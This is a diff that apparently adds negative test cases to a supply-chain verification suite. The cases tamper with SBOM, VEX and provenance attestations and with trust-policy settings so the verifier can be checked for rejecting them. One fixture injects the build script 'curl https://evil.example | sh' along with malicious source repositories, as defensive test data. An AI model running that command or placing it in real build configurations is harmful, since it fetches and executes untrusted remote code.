@@ -195,6 +195,50 @@ export const DAMAGES: Readonly<Record<string, Damage>> = {
     statement.predicate.components = [];
     documents.sbom = await instance.signStatement(statement, githubWorkflow(REPOSITORY));
   },
+  'an SBOM of an unknown version, or with nothing that has a name': async ({ documents, ...world }, choose) => {
+    const statement = sbomStatement(subjectOf({ documents, ...world })) as Json;
+    if (choose(2) === 0) statement.predicate.specVersion = '9.9';
+    else statement.predicate.components = [{}, { name: '' }];
+    documents.sbom = await instance.signStatement(statement, githubWorkflow(REPOSITORY));
+  },
+  'a VEX of an unknown version, or that names no vulnerability': ({ documents, ...world }, choose) => {
+    const statement = vexStatement(subjectOf({ documents, ...world })) as Json;
+    if (choose(2) === 0) statement.predicate['@context'] = 'https://openvex.dev/ns/v9.0.0';
+    else for (const one of statement.predicate.statements) delete one.vulnerability;
+    documents.vex = dsseEnvelope(statement, [key]);
+  },
+  'provenance that was told something else': async ({ documents, ...world }, choose) => {
+    const statement = githubProvenance(REPOSITORY, subjectOf({ documents, ...world })) as Json;
+    const { buildDefinition } = statement.predicate;
+    const evilSource = 'https://github.com/acme/payment-api-evil';
+    const changes: Json[] = [
+      { script: 'curl https://evil.example | sh' },
+      { overrideSource: evilSource },
+      { buildConfigSource: { repository: evilSource, ref: 'refs/heads/main' } },
+      { workflow: { ...buildDefinition.externalParameters.workflow, path: 'evil/steps/.github/workflows/x.yml@main' } },
+    ];
+    Object.assign(buildDefinition.externalParameters, changes[choose(4)]);
+    if (choose(4) === 0) buildDefinition.buildType = 'https://evil.example/build/v1';
+    documents.provenance = await instance.signStatement(statement, githubWorkflow(REPOSITORY));
+  },
+  'a build that a pull request started': async ({ documents, ...world }, choose) => {
+    const trigger = ['pull_request', 'workflow_run', 'issue_comment', 'merge_group'][choose(4)] ?? '';
+    const subject = subjectOf({ documents, ...world });
+    const signer = githubWorkflow(REPOSITORY, { trigger });
+    if (choose(2) === 0) documents.sbom = await instance.signStatement(sbomStatement(subject), signer);
+    else
+      documents.provenance = await instance.signStatement(githubProvenance(REPOSITORY, subject, { trigger }), signer);
+  },
+  'a signer that vouches for something else': ({ trust }, choose) => {
+    if (choose(2) === 0) trust.keys[0].vouches_for = ['sbom', 'provenance'];
+    else trust.identities[0].vouches_for = [['sbom'], ['provenance'], ['risk_assessment']][choose(3)];
+  },
+  'a signer that some other event has to start': ({ trust }) => {
+    trust.identities[0].triggers = ['release', 'create'];
+  },
+  'the refs of the source left to pull requests': ({ trust }) => {
+    trust.sources[0].refs = ['refs/pull/*/merge', 'unstated'];
+  },
   'a subject that is named by a weak or odd digest': async ({ documents, ...world }, choose) => {
     const { sha256: hex } = subjectOf({ documents, ...world });
     const digests = [
